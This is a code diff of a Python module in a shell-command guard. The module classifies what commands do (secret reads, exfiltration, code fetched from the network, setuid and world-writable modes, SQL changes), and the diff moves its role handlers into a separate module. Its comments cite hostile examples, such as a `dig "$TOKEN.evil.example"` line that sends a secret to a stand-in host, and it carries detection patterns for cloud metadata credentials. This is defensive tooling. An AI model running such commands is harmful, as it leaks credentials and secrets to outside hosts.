@@ -13,7 +13,7 @@ import os
 
 from ..wildcard import match as wildcard_match
 from . import feed  # every command's line state goes through it (feed.carry)
-from .model import TAG_CLASS, Effect
+from .model import Effect
 
 # Loaded when a command needs them (DESIGN.md, Speed: `guard -- true` resolves no word): the
 # grammar scanner, path resolution, and the modules of the roles (words, values, sql).
@@ -24,20 +24,7 @@ if TYPE_CHECKING:
 
     from ..grammar.scan import Invocation, Word
     from .paths import PathClasses
-
-_NETWORK_PACKAGE = ("git+", "github:", "gitlab:", "bitbucket:", "gist:", "git@")
-
-
-def _fetched_package(spec: str) -> bool:
-    """Is a package spec fetched from somewhere the line chooses (a URL, a VCS, a module path
-    at a version: `go run example.com/tool@latest`) rather than installed by name?"""
-    if "://" in spec or spec.startswith(_NETWORK_PACKAGE):
-        return True
-    if spec.endswith((".tgz", ".whl", ".tar.gz", ".zip")) and "/" in spec:
-        return True
-    path, at, _version = spec.partition("@")
-    head = path.split("/", 1)[0]
-    return bool(at) and "/" in path and "." in head  # a Go-style module path pinned to a version
+    from .roles import Command
 
 
 class Line:
@@ -147,8 +134,6 @@ class _Command:
         path, cwd = self.locate(word)
         return self.ctx.classes.hit(cls, path, cwd)
 
-    # -- roles ---------------------------------------------------------------------------
-
     def read(self, w: Word) -> None:
         from . import words
         from .values import remote_secret
@@ -175,16 +160,6 @@ class _Command:
             self.add("read", f"reads {w.value} ({hit})", "secret", (w.value,))
         self.reads.append(("secret" if hit else "data", w.value))
 
-    def printed(self, w: Word) -> None:
-        """A word a command prints: a secret variable expanded into it is exposed (what a
-        command substitution in it prints is judged as the command it is)."""
-        from . import words
-
-        for name in words.printed_variables(w.value):
-            if self.ctx.classes.secret_variable(name):
-                self.add("read", f"prints ${name}", "secret", (w.value,))
-                return
-
     def recursive(self) -> bool:
         """Does this command read directories recursively (`grep -r`, `rg`, `tar`)?"""
         shell = self.ctx.classes.shell
@@ -201,62 +176,6 @@ class _Command:
                 return True
         return False
 
-    def mode(self, w: Word) -> None:
-        """chmod MODE FILES: world-writable system files or sockets change who may do what."""
-        if "/" in w.value or w.value.startswith(("~", ".")):
-            self.changed(w, ("self-tamper",))  # `chmod -x FILE`: the mode was read as an option
-            return
-        from . import modes
-
-        if modes.sets_id(w.value):
-            self.add("mode", f"sets the setuid/setgid bit ({w.value})", "privilege", ())
-            return
-        modes.exposed(self, w)
-        if not modes.world_writable(w.value):
-            return
-        inv = self.inv
-        for other in inv.words if inv else ():
-            if other.role not in ("write", "meta", "made-dir"):
-                continue
-            path = self.path(other.value)
-            for p in self.ctx.line.aliases(path) if path else [other.value]:
-                if self.ctx.classes.world_writable_target(p, self.cwd):
-                    self.add("mode", f"makes {p} writable by everyone", "privilege", ())
-                    return
-
-    def write(self, w: Word, how: str = "written") -> None:
-        path = self.path(w.value)
-        is_dir = path and (os.path.isdir(path) or w.value.endswith("/"))
-        if is_dir and w.option is None and self.inv is not None:
-            # `cp SRC... DIR`: what is written is DIR/basename(SRC) for each source.
-            sources = [
-                x.value
-                for x in self.inv.words
-                if x.role in ("read", "upload", "write") and x is not w and x.option is None
-            ]
-            for src in sources:
-                self.wrote(
-                    os.path.join(w.value, os.path.basename(src.rstrip("/"))), how, (w.value,)
-                )
-            if sources:
-                return
-        self.wrote(w.value, how, (w.value,))
-
-    def into(self, w: Word) -> None:
-        """Files of names the line does not show are written below DIR (`unzip -d DIR`,
-        `tar -x -C DIR`): every protected path below DIR may be among them."""
-        path = self.path(w.value)
-        if not path:
-            return
-        if self.inv is not None and self.inv.has("-c", "--create", "-t", "--list", "--diff"):
-            self.cwd = path  # creating or listing an archive: DIR is where names are read
-            return
-        for cls in ("self-tamper", "privilege", "persistence"):
-            hit = self.ctx.classes.hit(cls, path, None) or self.ctx.classes.below(cls, path)
-            if hit:
-                self.add("write", f"writes files below {path} ({hit})", cls, (w.value,))
-                return
-
     def wrote(self, word: str, how: str, anchor: tuple[str, ...]) -> None:
         path = self.path(word)
         for p in self.ctx.line.aliases(path) if path else [word]:
@@ -268,42 +187,6 @@ class _Command:
         if path:
             self.writes.append(path)
             self.ctx.line.made[path] = how
-
-    def meta(self, w: Word) -> None:
-        """A mode, owner or time change: only guard's own files are protected from it (a
-        world-writable or setuid mode is judged by `mode`)."""
-        self.changed(w, ("self-tamper",))
-
-    def owner(self, w: Word) -> None:
-        """An owner change: of guard's files it is tamper, of privileged files privilege, of
-        a secret to another account exposure (modes.given_away)."""
-        from .modes import given_away
-
-        self.changed(w, ("self-tamper", "privilege"))
-        given_away(self, w)
-
-    def changed(self, w: Word, classes: tuple[str, ...]) -> None:
-        path = self.path(w.value)
-        for p in self.ctx.line.aliases(path) if path else [w.value]:
-            for cls in classes:
-                hit = self.ctx.classes.hit(cls, p, self.cwd)
-                if hit:
-                    self.add("meta", f"changes {p} ({hit})", cls, (w.value,))
-                    return
-
-    def module(self, w: Word) -> bool:
-        """A module imported by name that the line wrote (`echo … > m.py && python3 -m m`,
-        `pytest -p plugin`): code of unknown safety."""
-        if self.cwd is None:
-            return False
-        base = os.path.join(self.cwd, *w.value.split("."))
-        for candidate in (base + ".py", os.path.join(base, "__init__.py"), base):
-            how = self.ctx.line.origin(candidate)
-            if how:
-                cls = "network-code" if how == "fetched" else "unknown-code"
-                self.add("run", f"imports module {w.value}, {how} earlier in the line", cls, ())
-                return True
-        return False
 
     def runs(self, w: Word) -> None:
         path = self.path(w.value)
@@ -317,284 +200,12 @@ class _Command:
 
             loaded.from_drop_zone(self, w, path)
 
-    def command(self, w: Word) -> None:
-        # `!CMD` is how git aliases (and some other tools) spell "run this through the shell";
-        # analysing CMD is never less strict than analysing `!CMD`.
-        self.add("command", w.value[1:] if w.value.startswith("!") else w.value, None, ())
-
-    def program(self, w: Word) -> None:
-        """A program named by a value: installed programs by name are what they are; one named
-        by a path outside the system's directories is a file of unknown safety; a value with
-        arguments is a command line."""
-        from .paths import hidden_program
-
-        value = w.value.strip()
-        if " " in value or "\t" in value:
-            self.command(w)
-        elif hidden_program([value]):
-            how = self.ctx.line.origin(self.path(value) or value)
-            cls = "network-code" if how == "fetched" else "unknown-code"
-            self.add("run", f"runs {value}, named in {w.option or 'a value'}", cls, ())
-
-    def dest(self, w: Word) -> None:
-        """A copy's destination: a remote one (s3://bucket, host:path) is a change there."""
-        if not _is_remote(w.value):
-            self.write(w)
-        elif not self.loopback_only():
-            name = os.path.basename(self.argv[0])
-            inv = self.inv
-            anchor = tuple(self.argv[i] for i in inv.command_at) if inv else ()
-            self.add("change", f"copies to {w.value}", "production", anchor or (name,))
-
-    def keyval(self, w: Word) -> None:
-        from .values import split_keyval
-
-        pair = split_keyval(w.value)
-        key, value = pair or ("", "")
-        role = self.key_role(w.option, key) if pair else None
-        if not pair and "/" in w.value:  # `cargo --config PATH`, `-backend-config=PATH`: a file
-            role, value = "config", w.value
-        if role:
-            self.role(_word(role, value, w))
-
     def key_role(self, option: str | None, key: str) -> str | None:
         """The role a `keyval` option's KEY gives its VALUE ([X.keys.OPTION])."""
         for glob, role in (self.view or {}).get("keys", {}).get(option or "operands", {}).items():
             if wildcard_match(glob, key.lower()):
                 return str(role)
         return None
-
-    def contact(self, w: Word) -> None:
-        from . import words
-
-        for name in words.variables(w.value):  # `dig "$TOKEN.evil.example"`: the secret goes out
-            if self.ctx.classes.secret_variable(name):
-                self.add("send", f"sends ${name} to {w.value}", "secret-exfiltration", ())
-                return
-        value = words.unquote(w.value)
-        if value.lower().startswith("file://"):  # a local read, however the URL is spelled
-            self.read(_word("read", value[7:] or "/", w))
-            return
-        host = self.ctx.classes.metadata_host(w.value)
-        if host:
-            self.add("read", f"asks {host} for the machine's cloud credentials", "secret", ())
-
-    def remote_word(self, w: Word) -> None:
-        named = self.ctx.line.remotes.get(w.value)
-        if named:  # a remote this line named earlier (`git remote add m URL && git push m`)
-            self.add("send", f"sends data to {named} (as {w.value})", "exfiltration", (w.value,))
-        elif _is_remote(w.value):
-            self.add("send", f"sends data to {w.value}", "exfiltration", (w.value,))
-        self.contact(w)
-
-    def remote_name(self, w: Word) -> None:
-        """`git remote add NAME URL`: later words of the line may send data to NAME."""
-        urls = [x.value for x in (self.inv.words if self.inv else ()) if x.role == "url"]
-        if urls:
-            self.ctx.line.remotes[w.value] = urls[-1]
-
-    def upload(self, w: Word) -> None:
-        if w.value == "-":
-            self.sends_stdin()
-            return
-        if _is_remote(w.value):
-            return
-        self.pending_upload(w.value)
-
-    def sends_stdin(self) -> None:
-        """This command sends its stdin to a host: what the pipeline fed it goes out."""
-        if self.loopback_only():
-            return
-        for kind, what in self.ctx.line.piped:
-            cls = "secret-exfiltration" if kind == "secret" else "exfiltration"
-            self.add("send", f"sends what {what} gave it to a host", cls, ())
-            return
-
-    def data(self, w: Word) -> None:
-        """Data sent with a request: a secret variable expanded into it goes out; `@FILE`
-        (`-F name=@FILE`, `--data-urlencode name@FILE`) sends the file."""
-        from . import words
-
-        value = words.unquote(w.value)
-        if not self.loopback_only():
-            for name in words.variables(value):
-                if self.ctx.classes.secret_variable(name) and not (
-                    self.ctx.classes.secret_service(name, self.hosts())
-                ):
-                    self.add("send", f"sends ${name} to a host", "secret-exfiltration", ())
-                    return
-        at = value.find("@") if w.option in ("-F", "--form") else (0 if value[:1] == "@" else -1)
-        if w.option in ("-F", "--form") and "=<" in value:  # `name=<FILE`: its content (curl(1))
-            at = value.find("=<") + 1 if at < 0 else min(at, value.find("=<") + 1)
-        if w.option in ("--data-urlencode", "--variable") and "=" not in value.partition("@")[0]:
-            at = value.find("@")  # `name@FILE`: the file's content, encoded
-        if at >= 0 and value[at + 1 :].split(";", 1)[0] == "-":
-            self.sends_stdin()
-        elif at >= 0 and value[at + 1 :] not in ("", "-"):
-            self.pending_upload(value[at + 1 :].split(";", 1)[0])
-
-    def pending_upload(self, word: str) -> None:
-        if self.loopback_only():
-            return
-        secret = self.hit("secret", word)
-        if not secret and self.recursive():
-            path, cwd = self.locate(word)
-            secret = self.ctx.classes.holds_secrets(path, cwd)
-        cls = "secret-exfiltration" if secret else "exfiltration"
-        self.add("send", f"sends {word} to a host", cls, (word,))
-
-    def hosts(self) -> list[str]:
-        """The hosts this command names (URLs, hosts, remotes; proxies included)."""
-        from . import words
-
-        inv = self.inv
-        return [
-            words.unquote(w.value).split("://", 1)[-1].split("/", 1)[0].rsplit("@", 1)[-1]
-            for w in (inv.words if inv else ())
-            if w.role in ("url", "host", "remote", "credentials-to")
-        ]
-
-    def loopback_only(self) -> bool:
-        """Does every host this command names sit on this machine (`http://localhost:9200`)?"""
-        hosts = self.hosts()
-        return bool(hosts) and all(h.lower().startswith(_LOOPBACK) for h in hosts)
-
-    def sql(self, w: Word) -> None:
-        from . import words
-        from .sql import changes, files, irreversible, secrets
-
-        for role, path in files(words.unquote(w.value)):  # `.output F`, `VACUUM INTO 'F'`
-            self.role(_word(role, path, w))
-
-        for why in changes(w.value)[:1]:
-            cls = "irreversible" if irreversible(why) else "production"
-            self.add("change", f"SQL {why}", cls, (w.value,))  # a rule naming the SQL lifts it
-        for why in secrets(w.value):
-            self.add("read", f"SQL {why}", "secret", ())
-
-    def package(self, w: Word) -> None:
-        if _fetched_package(w.value):
-            self.add("run", f"installs and runs code from {w.value}", "network-code", (w.value,))
-
-    def varname(self, w: Word) -> None:
-        if self.ctx.classes.secret_variable(w.value):
-            self.add("read", f"prints ${w.value}", "secret", (w.value,))
-
-    def role(self, w: Word) -> None:
-        handler = _ROLES.get(w.role) or _more_roles().get(w.role)
-        if feed.is_unseen(w.value) and w.role != "read":
-            return  # words read from a file the line does not show: judged as reads only
-        if handler is not None:
-            handler(self, w)
-
-
-def _word(role: str, value: str, like: Word) -> Word:
-    from ..grammar.scan import Word
-
-    return Word(role, value, like.index, like.option)
-
-
-def _is_remote(value: str) -> bool:
-    if "://" in value and not value.startswith("file://"):
-        return True
-    head, colon, _ = value.partition(":")
-    return bool(colon) and bool(head) and "/" not in head and not head.startswith("-")
-
-
-_ROLES: dict[str, Any] = {
-    "read": _Command.read,
-    "write": _Command.write,
-    "runs": _Command.runs,
-    "program-file": _Command.runs,
-    "config": _Command.runs,
-    "command": _Command.command,
-    "keyval": _Command.keyval,
-    "host": _Command.contact,
-    "url": _Command.contact,
-    "remote": _Command.remote_word,
-    "upload": _Command.upload,
-    "data": _Command.data,
-    "sql": _Command.sql,
-    "package": _Command.package,
-    "varname": _Command.varname,
-    "mode": _Command.mode,
-    "program": _Command.program,
-    "printed": _Command.printed,
-    "module": _Command.module,
-    "remote-name": _Command.remote_name,
-    "into": _Command.into,
-    "dest": _Command.dest,
-    "meta": _Command.meta,
-    "owner": _Command.owner,
-}
-
-
-def _more_roles() -> dict[str, Any]:
-    """The roles handled by effects.values (and effects.loaded), merged into _ROLES with the
-    first word that needs a handler not found there."""
-    if "key" not in _ROLES:
-        from .awkprog import code, program
-        from .loaded import credentials_to
-        from .values import HANDLERS
-
-        _ROLES.update(HANDLERS)
-        _ROLES["credentials-to"] = credentials_to
-        _ROLES["awk-program"] = program
-        _ROLES["code"] = code
-    return _ROLES
-
-
-_LOOPBACK = ("localhost", "127.", "[::1]", "::1", "0.0.0.0", "ip6-localhost")  # noqa: S104
-
-
-def _tags(c: _Command) -> None:
-    """The effect the grammar declares for this subcommand or program."""
-    view, inv = c.view, c.inv
-    if view is None or inv is None:
-        return
-    # A subcommand's own effect speaks for it (`pass ls` reads even if `pass NAME` shows a
-    # secret); the program's effect for a call without a known subcommand. `bare` is the
-    # program alone (`vercel` deploys; `vercel env list` reads).
-    own = inv.spec.get("effect") if inv.spec else None
-    tags = [own] if own else [view["effect"]]
-    if not inv.command and not inv.operands and not inv.options and view["bare"]:
-        tags.append(view["bare"])
-    anchor = tuple(c.argv[i] for i in inv.command_at)
-    name = os.path.basename(c.argv[0])
-    op = " ".join((name, *anchor))
-    # Code from the network (`npx prisma`, `pipx run black`): the packages it fetches name the
-    # operation with the subcommand, so an allow rule lifts it only by spelling each of them
-    # (never `pipx run **`).
-    packages = tuple(w.value for w in inv.words if w.role == "package")
-    for tag in tags:
-        cls = TAG_CLASS.get(tag or "")
-        if cls:
-            named = anchor + packages if cls == "network-code" else anchor
-            c.add(tag or "", op, cls, named or (name,))
-            return
-
-
-def _runs_files(c: _Command) -> None:
-    """A build or test runner after a file it runs was written earlier in the line."""
-    view, inv = c.view, c.inv
-    if view is None or inv is None:
-        return
-    globs = (inv.spec.get("runs") if inv.spec else None) or view["runs"]
-    if not globs or c.cwd is None:
-        return
-    if c.ctx.line.origin(c.cwd) == "fetched":
-        c.add("run", f"builds or tests {c.cwd}, downloaded earlier in the line", "network-code", ())
-        return
-    from .loaded import runner_dir
-
-    runner_dir(c)
-    for path, how in c.ctx.line.made.items():
-        if path.startswith(c.cwd.rstrip("/") + "/") and any(
-            wildcard_match(g, os.path.basename(path)) for g in globs
-        ):
-            cls = "network-code" if how == "fetched" else "unknown-code"
-            c.add("run", f"runs {path}, {how} earlier in the line", cls, ())
-            return
 
 
 def resolve(
@@ -609,7 +220,14 @@ def resolve(
 ) -> list[Effect]:
     """The effects of one simple command; records its writes in the line state. `choices`:
     the words a dynamic argv word stands for (a for loop's variable)."""
-    c = _Command(argv, cwd, ctx)
+    name = os.path.basename(argv[0]) if argv else ""
+    view = ctx.view(name) if name else None
+    roles: Command | None = None  # the role handlers: only a program with a grammar needs them
+    if view is not None or env:
+        from .roles import Command
+
+        roles = Command(argv, cwd, ctx)
+    c = roles or _Command(argv, cwd, ctx)
     fed, ctx.line.feed = ctx.line.feed, None  # `{}` of a command xargs or find -exec runs
     stdin_file: list[tuple[str, str]] = []  # `< FILE`: what the command reads on stdin
     for r in redirects:
@@ -626,49 +244,24 @@ def resolve(
         from ..grammar.scan import Word
 
         c.runs(Word("runs", argv[0], 0, None))
-    name = os.path.basename(argv[0]) if argv else ""
-    c.view = ctx.view(name) if name else None
-    if c.view is not None:
-        from ..grammar.scan import scan
-        from ..shell.paths import resolve as resolve_path
-        from . import loaded, outputs
+    c.view = view
+    if roles is not None and view is not None:
+        from .roles import by_grammar
 
-        c.inv = scan(argv, c.view)
-        if c.inv.no_effect(c.view):
+        if not by_grammar(roles, fed, choices, stdin, env):
             return c.effects  # a dry run or a check: what it reads is all it does
-        if fed:
-            c.inv.words = feed.fill(c.inv.words, fed)
-        if choices:
-            c.inv.words = feed.each(c.inv.words, choices)
-        feed.unpacked(c, stdin)
-        for w in c.inv.words:
-            if w.role == "dir":
-                c.cwd = resolve_path(w.value, c.cwd, ctx.home)
-        if outputs.in_place(c.inv, c.view.get("in_place", ())):
-            _edit_in_place(c.inv)
-        for w in c.inv.words:
-            c.role(w)
-        _module(c, ctx, env)
-        _tags(c)
-        outputs.stdout(c)
-        loaded.plugin(c)
-        _runs_files(c)
-        if "fetch" in (c.inv.spec.get("effect") if c.inv.spec else None, c.view["effect"]):
-            _fetched(c)
-        _links(c)
-        feed.carried(c)
     else:
         _unknown(c, fed, choices)
-    if env:
+    if roles is not None and env:
         from . import environ
 
-        environ.judge(c, env)
-    if stdin_file and c.view is not None and c.view.get("sends_stdin"):
+        environ.judge(roles, env)
+    if roles is not None and stdin_file and view is not None and view.get("sends_stdin"):
         saved, ctx.line.piped = ctx.line.piped, stdin_file
-        c.sends_stdin()
+        roles.sends_stdin()
         ctx.line.piped = saved
     _kept_secret(c, redirects)
-    _pipeline(c, stdin)
+    _pipeline(c, roles, stdin)
     feed.carry(c, stdin, redirects)
     return c.effects
 
@@ -683,21 +276,14 @@ def _kept_secret(c: _Command, redirects: list[Any]) -> None:
     c.effects = [e for e in c.effects if not (e.kind == "read" and e.protected == "secret")]
 
 
-def _pipeline(c: _Command, stdin: str | None) -> None:
+def _pipeline(c: _Command, roles: Command | None, stdin: str | None) -> None:
     """Carry what this command read to the next command of its pipeline."""
-    if stdin == "pipe" and c.view is not None and c.view.get("sends_stdin"):
-        c.sends_stdin()
+    if stdin == "pipe" and roles is not None and c.view is not None and c.view.get("sends_stdin"):
+        roles.sends_stdin()
     if stdin == "pipe":
         c.ctx.line.piped = c.ctx.line.piped + c.reads  # a filter passes its input on
     else:
         c.ctx.line.piped = list(c.reads)
-
-
-def _edit_in_place(inv: Invocation) -> None:
-    """`sed -i`: the files it would print are written back instead (a write, not a read)."""
-    for w in inv.words:
-        if w.role == "read" and w.option is None:
-            w.role = "write"
 
 
 def no_effect(argv: list[str], ctx: Context) -> bool:
@@ -725,53 +311,3 @@ def _unknown(c: _Command, fed: list[str] | None, choices: dict[int, list[str]] |
     operands = feed.fill(operands, fed) if fed else operands
     for w in feed.each(operands, choices) if choices else operands:
         c.read(w)
-
-
-def _fetched(c: _Command) -> None:
-    """What a download wrote is code from the network if it runs later in the line. Without a
-    named destination, wget and git clone save under the URL's last segment."""
-    writes = list(c.writes)
-    if not writes and c.inv is not None and c.cwd is not None:
-        for w in c.inv.words:
-            if w.role in ("url", "remote") and ("://" in w.value or _is_remote(w.value)):
-                name = w.value.split("?", 1)[0].rstrip("/").rsplit("/", 1)[-1]
-                name = name.rsplit(":", 1)[-1].removesuffix(".git")
-                if name:
-                    writes.append(os.path.join(c.cwd, name))
-    for path in writes:
-        c.ctx.line.made[path] = "fetched"
-
-
-def _module(c: _Command, ctx: Context, env: dict[str, str] | None) -> None:
-    """`python -m MODULE ARGS` runs MODULE as a program: its grammar's effects (pip, pytest)."""
-    inv = c.inv
-    if inv is None:
-        return
-    for w in inv.words:
-        if w.role != "end":
-            continue
-        if c.module(w):
-            return
-        if ctx.view(w.value) is not None and len(ctx.line.made) < 10_000:
-            c.effects += resolve([w.value, *inv.rest], ctx, cwd=c.cwd, env=env)
-        return
-
-
-def _links(c: _Command) -> None:
-    """`ln -s TARGET NAME`: a later write to NAME writes TARGET."""
-    inv = c.inv
-    if inv is None:
-        return
-    targets = [w.value for w in inv.words if w.role == "link"]
-    names = [w.value for w in inv.words if w.role == "write" and w.option is None]
-    if len(targets) == 1 and len(names) == 1:
-        link = c.path(names[0])
-        if not link:
-            return
-        if os.path.isdir(link) and not os.path.islink(link):
-            link = os.path.join(link, os.path.basename(targets[0]))
-        from ..shell.paths import resolve as resolve_path
-
-        target = resolve_path(targets[0], os.path.dirname(link), c.ctx.home)
-        if target:
-            c.ctx.line.links[link] = target
